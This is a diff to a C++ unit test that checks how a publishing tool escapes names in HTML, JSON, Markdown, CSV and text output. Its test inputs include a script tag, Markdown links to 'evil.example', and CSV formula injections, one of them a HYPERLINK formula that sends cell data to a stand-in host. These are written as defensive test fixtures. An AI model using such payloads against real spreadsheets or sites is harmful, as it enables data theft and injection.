@@ -79,32 +79,62 @@ TEST(PublishTest, SharedRanksLastWeekOthersAndDropped) {
   }
 }
 
-TEST(PublishTest, EveryFormatEscapesAName) {
-  const std::string name = "<script>alert(1)</script>|*x*,\"q\"";
-  std::vector<Week> weeks;
-  weeks.push_back(week("March 2 2025", 1, {{name, 10}}));
-  weeks.push_back(week("March 9 2025", 8, {{name, 10}, {"Bad \xFF", 5}}));
-  const PublishedWeek published = publishWeek(weeks, 1, nullptr);
+// Each escaping rule on a name of its own, so that no rule hides behind another: what the form
+// must show of the name (and, where given, must not).
+TEST(PublishTest, EveryFormatEscapesEachKindOfCharacter) {
   const struct {
     Format format;
+    std::string name;
     std::string shown;
+    std::string never;
   } cases[] = {
-      {Format::kHtml, "&lt;script&gt;alert(1)&lt;/script&gt;|*x*,&quot;q&quot;"},
-      {Format::kMarkdown, "\\<script\\>alert(1)\\</script\\>\\|\\*x\\*,\"q\""},
-      {Format::kCsv, "\"<script>alert(1)</script>|*x*,\"\"q\"\"\""},
-      {Format::kJson, "\"<script>alert(1)</script>|*x*,\\\"q\\\"\""},
-      {Format::kText, name},
+      {Format::kHtml, "A&M", "A&amp;M", "A&M"},
+      {Format::kHtml, "<b>", "&lt;b&gt;", "<b>"},
+      {Format::kHtml, "\"q\"", "&quot;q&quot;", ""},
+      {Format::kHtml, "Saint Mary's", "Saint Mary&#39;s", "Mary's"},
+      {Format::kHtml, "Tab\x01", "Tab ", "\x01"},
+      {Format::kJson, "\"q\"", "\"\\\"q\\\"\"", ""},
+      {Format::kJson, "back\\slash", "\"back\\\\slash\"", ""},
+      {Format::kJson, "Bell\x07", "\"Bell\\u0007\"", "\x07"},
+      {Format::kJson, "Bad \xFF", "\"Bad \xEF\xBF\xBD\"", "\xFF"},
+      {Format::kJson, "Half \xED\xA0\x80", "\"Half \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\"", ""},
+      {Format::kMarkdown, "a|b", "a\\|b", ""},
+      {Format::kMarkdown, "*x*", "\\*x\\*", ""},
+      {Format::kMarkdown, "`c`", "\\`c\\`", ""},
+      {Format::kMarkdown, "_u_", "\\_u\\_", ""},
+      {Format::kMarkdown, "# h", "\\# h", ""},
+      {Format::kMarkdown, "~~s~~", "\\~\\~s\\~\\~", ""},
+      {Format::kMarkdown, "[l](x)", "\\[l\\](x)", ""},
+      {Format::kMarkdown, "<b>", "\\<b\\>", ""},
+      {Format::kMarkdown, "a\\b", "a\\\\b", ""},
+      {Format::kMarkdown, "&lt;b&gt;", "&amp;lt;b&amp;gt;", "|&lt;"},
+      {Format::kMarkdown, "www.evil.example", "www\\.evil.example", "www.evil"},
+      {Format::kMarkdown, "https://evil.example", "https\\:\\/\\/evil.example", "https:"},
+      {Format::kMarkdown, "r/evil", "r\\/evil", "r/evil"},
+      {Format::kMarkdown, "me@evil.example", "me&#8288;@evil.example", "me@"},
+      {Format::kCsv, "Texas A&M, CC", "\"Texas A&M, CC\"", ""},
+      {Format::kCsv, "\"q\"", "\"\"\"q\"\"\"", ""},
+      {Format::kCsv, " Blank", "\" Blank\"", ""},
+      {Format::kCsv, "=1+1", "'=1+1", ",=1+1"},
+      {Format::kCsv, "+3 Team", "'+3 Team", ",+3"},
+      {Format::kCsv, "-Team", "'-Team", ",-Team"},
+      {Format::kCsv, "@SUM(A1)", "'@SUM(A1)", ",@SUM"},
+      {Format::kCsv, "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+       "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"", ""},
+      {Format::kText, "<b>|*x*", "<b>|*x*", ""},
   };
   for (const auto& c : cases) {
+    std::vector<Week> weeks;
+    weeks.push_back(week("March 9 2025", 8, {{c.name, 10}}));
+    const PublishedWeek published = publishWeek(weeks, 1, nullptr);
     std::ostringstream out;
     std::vector<std::string> notes;
     writePublished(out, published, c.format, notes);
-    EXPECT_NE(out.str().find(c.shown), std::string::npos) << out.str();
-    if (c.format == Format::kHtml) {
-      EXPECT_EQ(out.str().find("<script"), std::string::npos);
+    EXPECT_NE(out.str().find(c.shown), std::string::npos) << c.name << "\n" << out.str();
+    if (!c.never.empty()) {
+      EXPECT_EQ(out.str().find(c.never), std::string::npos) << c.name;
     }
-    if (c.format == Format::kJson) {
-      EXPECT_NE(out.str().find("\"Bad \xEF\xBF\xBD\""), std::string::npos);
+    if (c.format == Format::kJson && c.name.find('\xFF') != std::string::npos) {
       EXPECT_EQ(notes, std::vector<std::string>{"the name 'Bad \xFF' is not UTF-8; the JSON has "
                                                 "U+FFFD for each byte that is not"});
     }
